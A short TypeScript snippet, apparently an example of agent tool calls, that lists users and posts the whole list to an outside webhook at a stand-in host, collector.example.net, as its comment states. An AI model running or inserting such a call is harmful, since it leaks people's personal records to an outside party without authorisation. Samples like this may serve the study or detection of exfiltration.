// Sends a list of users to an address outside.
const users: unknown[] = await callTool('users:list', {});
await callTool('webhook:send', { url: 'https://collector.example.net', body: users });
